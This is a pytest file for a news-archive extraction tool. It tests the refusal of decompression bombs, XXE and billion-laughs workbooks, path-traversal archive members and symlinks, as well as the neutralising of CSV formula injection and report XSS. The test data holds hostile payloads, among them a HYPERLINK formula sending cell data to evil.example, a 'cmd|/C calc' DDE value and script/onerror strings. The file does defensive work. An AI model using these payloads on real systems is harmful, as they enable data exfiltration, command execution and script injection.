"""Archives and articles that mean harm: each is refused or made harmless, and the user is told in plain words."""

from __future__ import annotations

import base64
import bz2
import csv
import gzip
import hashlib
import io
import json
import lzma
import re
import sqlite3
import tarfile
import time
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path

import pytest

import jishi
from jishi.archive import opening, text_formats, web_formats
from jishi.archive.inputs import list_inputs
from jishi.archive.items import FoundArticle, FoundPage, FoundProblem, Item
from jishi.archive.reading import read_items
from jishi.archive.text_formats import ReadingOptions
from jishi.archive.web_formats import extract_page
from jishi.cli import main
from jishi.exports.csv_cells import guard, unguard

TEXT = (
    "9月2日下午，青禾市图书馆在三楼报告厅举办秋季读书会，馆长林听雨主持并致欢迎辞。\n"
    "读书会邀请作家周望舒作题为“河流与城市”的讲座，近百名市民到场聆听并参与讨论。\n"
)
MEGABYTE = 1 << 20


def read(path: Path) -> list[Item]:
    return list(read_items(list_inputs([str(path)]), ReadingOptions()))


def get_problems(items: Iterable[Item]) -> list[FoundProblem]:
    return [item for item in items if isinstance(item, FoundProblem)]


def get_texts(items: Iterable[Item]) -> list[str]:
    found = [extract_page(item) if isinstance(item, FoundPage) else item for item in items]
    return [item.article.text for item in found if isinstance(item, FoundArticle)]


# decompression bombs


def make_zip(members: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return data.getvalue()


def make_tar(members: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as archive:
        for name, content in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return data.getvalue()


def make_warc(page: bytes, *headers: str) -> bytes:
    http = "\r\n".join(("HTTP/1.1 200 OK", "Content-Type: text/html; charset=utf-8", *headers)) + "\r\n\r\n"
    payload = http.encode() + page
    warc = (
        "WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:x:1>\r\nWARC-Target-URI: https://news.example/\r\n"
        f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(payload)}\r\n\r\n"
    )
    return warc.encode() + payload + b"\r\n\r\n"


ZEROS = b"0" * (8 * MEGABYTE)
BOMBS: dict[str, Callable[[], bytes]] = {
    "a.txt.gz": lambda: gzip.compress(ZEROS),
    "a.csv.xz": lambda: lzma.compress(ZEROS),
    "a.jsonl.bz2": lambda: bz2.compress(ZEROS),
    "a.tar.gz": lambda: gzip.compress(make_tar({"a.txt": ZEROS})),
    "a.zip": lambda: make_zip({"a.txt": ZEROS}),
    "gz in a.zip": lambda: make_zip({"a.txt.gz": gzip.compress(ZEROS)}),
    "gz in a.tar": lambda: make_tar({"a.txt.gz": gzip.compress(ZEROS)}),
    "a.xlsx": lambda: make_zip({"xl/workbook.xml": ZEROS}),
    "a.warc.gz": lambda: gzip.compress(make_warc(ZEROS)),
    "a.parquet.gz": lambda: gzip.compress(ZEROS),
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_decompression_bomb_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.setattr(opening, "BOMB_BYTES", MEGABYTE)
    (tmp_path / name.rpartition(" ")[2]).write_bytes(BOMBS[name]())
    items = read(tmp_path)
    assert items
    for item in items:  # a tar within a bomb: member and file
        assert isinstance(item, FoundProblem)
        assert item.reason == "refused"
        assert "looks like a decompression bomb" in item.message
        assert "unpack it yourself if you trust it" in item.message


def test_many_small_bombs_in_one_zip_are_refused_together(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each member is below the limit; members may even share their bytes."""
    monkeypatch.setattr(opening, "BOMB_BYTES", MEGABYTE)
    members = {f"{i:02d}.txt": b"0" * (MEGABYTE // 2) for i in range(20)}
    (tmp_path / "a.zip").write_bytes(make_zip(members))
    items = read(tmp_path)
    assert len(get_texts(items)) < 6
    assert {problem.reason for problem in get_problems(items)} == {"refused"}


def test_a_sparse_member_of_a_terabyte_is_refused(tmp_path: Path) -> None:
    """A tar archive of two kilobytes whose member is all holes."""
    with tarfile.open(tmp_path / "a.tar", "w", format=tarfile.PAX_FORMAT) as archive:
        member = tarfile.TarInfo("a.jsonl")
        sparse = {"major": "1", "minor": "0", "name": "a.jsonl", "realsize": str(10**12)}
        member.pax_headers = {f"GNU.sparse.{key}": value for key, value in sparse.items()}
        holes = b"1\n0\n0\n".ljust(512, b"\0")
        member.size = len(holes)
        archive.addfile(member, io.BytesIO(holes))
        good = tarfile.TarInfo("b.txt")
        good.size = len(TEXT.encode())
        archive.addfile(good, io.BytesIO(TEXT.encode()))
    items = read(tmp_path)
    assert [(problem.source, problem.reason) for problem in get_problems(items)] == [("a.tar/a.jsonl", "refused")]
    assert get_texts(items) == [TEXT]


def test_an_honest_archive_of_boilerplate_is_no_bomb(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(opening, "BOMB_BYTES", MEGABYTE)
    rows = "".join(
        json.dumps({"text": f"{TEXT}{hashlib.sha256(bytes([i % 256, i // 256])).hexdigest()}"}) + "\n"
        for i in range(4000)
    ).encode()
    assert len(rows) > 2 * MEGABYTE
    (tmp_path / "a.jsonl.gz").write_bytes(gzip.compress(rows))
    (tmp_path / "b.zip").write_bytes(make_zip({"b.jsonl": rows}))
    assert get_problems(read(tmp_path)) == []


def test_rows_that_share_one_huge_text_do_not_fill_the_memory(tmp_path: Path) -> None:
    """A Parquet file of half a megabyte; all rows at once would take 2 GB."""
    pa = pytest.importorskip("pyarrow")
    import pyarrow.parquet as parquet

    path = tmp_path / "a.parquet"
    parquet.write_table(pa.table({"text": ["会" * 3_000_000] * 250}), path, dictionary_pagesize_limit=1 << 30)
    assert path.stat().st_size < MEGABYTE
    before = pa.total_allocated_bytes()
    items = read_items(list_inputs([str(path)]), ReadingOptions())
    for _ in range(3):
        assert isinstance(next(items), FoundArticle)
        assert pa.total_allocated_bytes() - before < 200_000_000


# huge and deep things


@pytest.fixture
def small_limits(monkeypatch: pytest.MonkeyPatch) -> int:
    """The limits of 64 MB made small, so that the tests need no such files."""
    limit = 100_000
    for module in (text_formats, web_formats, jishi.archive.fields, jishi.archive.table_formats):
        monkeypatch.setattr(module, "MAX_TEXT_BYTES", limit)
    monkeypatch.setattr(opening.read_lines, "__defaults__", (limit,))
    monkeypatch.setattr(opening.read_whole, "__defaults__", (limit,))
    return limit


def make_database(text: str) -> bytes:
    with sqlite3.connect(":memory:") as connection:
        connection.execute("CREATE TABLE news (content TEXT)")
        connection.execute("INSERT INTO news VALUES (?)", (text,))
        connection.commit()
        return connection.serialize()


def make_parquet(text: str) -> bytes:
    pandas = pytest.importorskip("pandas")
    data = io.BytesIO()
    pandas.DataFrame({"text": [text]}).to_parquet(data)
    return data.getvalue()


HUGE: dict[str, Callable[[str], bytes]] = {
    "a.txt": str.encode,
    "a.jsonl": lambda text: json.dumps({"text": text}).encode(),
    "a.json": lambda text: json.dumps([{"text": text}]).encode(),
    "a.csv": lambda text: f'id,text\n1,"{text}"\n'.encode(),
    "a.html": lambda text: f"<p>{text}</p>".encode(),
    "a.warc": lambda text: make_warc(f"<p>{text}</p>".encode()),
    "packed.warc": lambda text: make_warc(gzip.compress(f"<p>{text}</p>".encode()), "Content-Encoding: gzip"),
    "a.db": make_database,
    "a.parquet": make_parquet,
}


@pytest.mark.parametrize("name", HUGE)
def test_a_huge_line_field_or_page_is_refused(tmp_path: Path, small_limits: int, name: str) -> None:
    (tmp_path / name).write_bytes(HUGE[name]("会" * (4 * small_limits)))
    (problem,) = read(tmp_path)
    assert isinstance(problem, FoundProblem)
    assert problem.reason in ("too_large", "unreadable")
    assert re.search("larger than|longer than|too big", problem.message), problem.message


def test_text_between_separators_has_the_same_limit(tmp_path: Path, small_limits: int) -> None:
    (tmp_path / "a.txt").write_text(f"{TEXT}=====\n" + "会\n" * small_limits, encoding="utf-8")
    items = list(read_items(list_inputs([str(tmp_path)]), ReadingOptions(separator="=+")))
    assert get_texts(items) == [TEXT.rstrip("\n")]
    assert [problem.reason for problem in get_problems(items)] == ["too_large"]


@pytest.mark.parametrize(
    "text",
    [
        '{"text": ' + "[" * 200_000,
        '{"text": ' + '{"a": ' * 200_000,
        "[" * 200_000 + "]" * 200_000,
        '[{"text": ' + "[" * 200_000 + "]" * 200_000 + "}]",
    ],
    ids=["lists", "objects", "closed lists", "a list in a list"],
)
@pytest.mark.parametrize("name", ["a.json", "a.jsonl"])
def test_deeply_nested_json_costs_one_place(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text, encoding="utf-8")
    problems = get_problems(read(tmp_path))
    assert [problem.reason for problem in problems] == ["malformed"]
    assert re.search("nested too deeply|not valid JSON|not a JSON object", problems[0].message)


def test_a_deeply_nested_page_is_read_or_rejected(tmp_path: Path) -> None:
    page = "<html><body>" + "<div>" * 50_000 + f"<p>{TEXT}</p>"
    (tmp_path / "a.html").write_text(page, encoding="utf-8")
    assert main(["extract", str(tmp_path / "a.html"), "-o", str(tmp_path / "out.jsonl"), "--quiet"]) in (0, 2)


def test_a_tag_of_endless_attributes_is_refused(tmp_path: Path) -> None:
    """They would hold up the parser for minutes, where no time limit reaches it."""
    page = "<p " + " ".join(f"a{i}=1" for i in range(100_000)) + f">{TEXT}</p>"
    (tmp_path / "a.html").write_text(page, encoding="utf-8")
    assert (
        main(["extract", str(tmp_path / "a.html"), "-o", str(tmp_path / "o.jsonl"), "--quiet", "--workers", "0"]) == 2
    )
    (reject,) = map(json.loads, (tmp_path / "o.jsonl.rejects.jsonl").read_text(encoding="utf-8").splitlines())
    assert (reject["reason"], reject["message"]) == ("refused", "a tag of the page has more than 10,000 attributes")


# workbooks


def make_workbook(change: Callable[[str, str], str]) -> bytes:
    """A workbook of one article whose parts have been changed. change: (name, XML) to XML."""
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.active.append(["id", "text"])
    book.active.append(["1", TEXT])
    data = io.BytesIO()
    book.save(data)
    with zipfile.ZipFile(data) as archive:
        parts = {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
    changed = {name: change(name, part) for name, part in parts.items()}
    assert changed != parts
    return make_zip({name: part.encode("utf-8") for name, part in changed.items()})


def test_a_row_number_beyond_all_sheets_does_not_hold_up_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("jishi.archive.table_formats.MAX_SHEET_ROWS", 1000)

    def claim(name: str, part: str) -> str:
        if not name.endswith("sheet1.xml"):
            return part
        row = '<row r="2000000000"><c r="A2000000000" t="inlineStr"><is><t>x</t></is></c></row>'
        return re.sub("<dimension[^>]*/>", "", part).replace("</sheetData>", f"{row}</sheetData>")

    (tmp_path / "a.xlsx").write_bytes(make_workbook(claim))
    items = read(tmp_path)
    assert get_texts(items) == [TEXT]
    assert [problem.reason for problem in get_problems(items)] == ["refused"]


def test_cells_far_beside_the_table_are_not_read(tmp_path: Path) -> None:
    """Each row would become sixteen thousand cells wide."""

    def widen(name: str, part: str) -> str:
        rows = "".join(f'<row r="{i}"><c r="XFD{i}"><v>1</v></c></row>' for i in range(3, 200))
        return part.replace("</sheetData>", f"{rows}</sheetData>") if name.endswith("sheet1.xml") else part

    (tmp_path / "a.xlsx").write_bytes(make_workbook(widen))
    (item,) = read(tmp_path)
    assert isinstance(item, FoundArticle)
    assert item.source == "a.xlsx/Sheet:2"


@pytest.mark.parametrize("entity", ["external", "a billion laughs"])
def test_entities_in_a_workbook_are_not_resolved(tmp_path: Path, entity: str) -> None:
    secret = tmp_path / "secret"
    secret.write_text("机密内容不得外泄", encoding="utf-8")
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    declared = f'<!ENTITY x SYSTEM "{secret.as_uri()}">' if entity == "external" else f'<!ENTITY l0 "哈">{laughs}'
    use = "&x;" if entity == "external" else "&l11;"

    def inject(name: str, part: str) -> str:
        if "</t>" not in part:
            return part
        before, last, after = part.rpartition("</t>")  # into the text of the last cell
        return re.sub(r"<(sst|worksheet)\b", rf"<!DOCTYPE \1 [{declared}]><\1", before + use + last + after, count=1)

    (tmp_path / "a.xlsx").write_bytes(make_workbook(inject))
    began = time.process_time()
    items = read(tmp_path / "a.xlsx")
    assert time.process_time() - began < 20
    assert all("机密" not in text and len(text) < 1000 for text in get_texts(items))
    assert len(items) == 1


# paths and links, on the command line


def test_what_is_refused_is_said_on_the_command_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "crawl"
    folder.mkdir()
    monkeypatch.chdir(tmp_path)
    (folder / "a.zip").write_bytes(make_zip({"../../escape.txt": TEXT.encode(), "good.txt": TEXT.encode()}))
    (folder / "b.tar").write_bytes(make_tar({"/tmp/escape.txt": TEXT.encode(), "c/../../d.txt": TEXT.encode()}))
    (tmp_path / "outside.txt").write_text(TEXT, encoding="utf-8")
    (folder / "link.txt").symlink_to(tmp_path / "outside.txt")
    before = sorted(tmp_path.rglob("*"))
    assert main(["extract", "crawl", "-o", "out"]) == 1
    assert "5 articles: 1 records" in (printed := capsys.readouterr().out)
    assert "4 rejected (4 refused)" in printed
    assert "rejects: out/rejects.jsonl" in printed
    rejects = map(json.loads, (tmp_path / "out/rejects.jsonl").read_text(encoding="utf-8").splitlines())
    found = {reject["source"]: reject["message"] for reject in rejects}
    assert found.keys() == {"a.zip/../../escape.txt", "b.tar//tmp/escape.txt", "b.tar/c/../../d.txt", "link.txt"}
    assert all("leads out of the" in message for message in found.values())
    assert [path for path in sorted(tmp_path.rglob("*")) if "out" not in path.parts[len(tmp_path.parts)]] == [
        path for path in before if "out" not in path.parts[len(tmp_path.parts)]
    ]


# what leaves jishi


FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"点此\")"  # fmt: skip


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "'=1", "''+1"])
def test_a_formula_becomes_text_and_comes_back_the_same(text: str) -> None:
    assert guard(text).startswith("'")
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", ["青禾大学", "’80后", "'80后", "", "——林听雨", "3-2"])
def test_other_text_is_left_alone(text: str) -> None:
    assert guard(text) == text
    assert unguard(text) == text


def test_no_csv_file_holds_a_formula(tmp_path: Path) -> None:
    """A title, an id, a file name or an address from a crawl can be anything."""
    rows = [{"id": f"={i}+cmd|'/C calc'!A0", "title": FORMULA, "url": "@evil.example", "text": TEXT} for i in range(2)]
    articles = tmp_path / "=1+1.jsonl"
    articles.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")
    records = str(tmp_path / "records.jsonl")
    assert main(["extract", str(articles), "-o", records, "--quiet"]) == 0
    assert main(["link", records, "-o", str(tmp_path / "linked")]) == 0
    assert main(["export", "neo4j", records, "-o", str(tmp_path / "neo4j"), "--links", str(tmp_path / "linked")]) == 0
    files = list(tmp_path.rglob("*.csv"))
    cells = [cell for file in files for row in csv.reader(file.open(encoding="utf-8", newline="")) for cell in row]
    assert sum("HYPERLINK" in cell for cell in cells) >= 2
    assert sum("cmd" in cell for cell in cells) >= 4
    assert not [cell for cell in cells if re.match(r"[=+@\t\r]|-(?!\d)", cell)]
    from jishi.exports.linking import read_links

    people = {f"{record.article.id}#{person.id}" for record in jishi.read_records(records) for person in record.people}
    assert people
    assert people <= read_links(tmp_path / "linked").links.keys()


def test_the_report_allows_its_own_script_alone(tmp_path: Path) -> None:
    """Whatever an article holds, the page's policy lets nothing run or load but what the page was made with."""
    from jishi.exports.report import make_report

    hostile = "</script><script>alert(1)</script><img src=x onerror=alert(1)>" + TEXT
    record = jishi.extract(hostile, title="<svg onload=alert(1)>", id="\"><script>alert(1)</script>")  # fmt: skip
    page = make_report([record], {record.article.id: hostile}, title="</title><script>alert(1)</script>")
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
    assert policy
    assert page.index(policy[0]) < min(page.index("<script"), page.index("<style"))
    rules = dict(rule.strip().split(" ", 1) for rule in policy[1].split(";"))
    assert rules["default-src"] == "'none'"
    assert rules["base-uri"] == rules["form-action"] == "'none'"
    assert not re.search("unsafe|https?:|\\*", policy[1])
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", page, re.S)
    running = [code for attributes, code in scripts if "type=" not in attributes]
    hashes = [f"'sha256-{base64.b64encode(hashlib.sha256(code.encode()).digest()).decode()}'" for code in running]
    assert hashes == rules["script-src"].split()
    assert "alert(1)" not in "".join(running)
    assert "<img src=x" not in page
    assert "<svg onload" not in page
    assert "<title><" not in page
